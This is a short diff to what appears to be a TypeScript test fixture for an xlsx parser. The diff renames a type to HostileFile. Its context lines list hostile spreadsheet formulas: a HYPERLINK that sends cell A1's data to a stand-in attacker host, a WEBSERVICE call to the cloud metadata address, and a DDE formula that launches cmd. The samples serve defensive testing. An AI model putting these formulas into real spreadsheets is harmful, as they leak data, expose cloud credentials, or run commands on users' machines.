@@ -1,4 +1,4 @@
-import { sheet1, strings, csv, formula, number, bigSheet, type Making } from './hostile-parts.fixture.ts'
+import { sheet1, strings, csv, formula, number, bigSheet, type HostileFile } from './hostile-parts.fixture.ts'
 import {
   sheetWithHead,
   inline,
@@ -12,7 +12,7 @@ import {
   xlsx,
 } from './xlsx.fixture.ts'
 
-export const values: Making[] = [
+export const values: HostileFile[] = [
   ['a formula that opens an address', () => formula('HYPERLINK("http://evil.example/?"&amp;A1,"点我")', '点我')],
   ['a formula that asks the web', () => formula('WEBSERVICE("http://169.254.169.254/latest")', '330106199001011232')],
   ['a formula that starts a program', () => formula("cmd|'/c calc'!A0", '#REF!', 'e')],
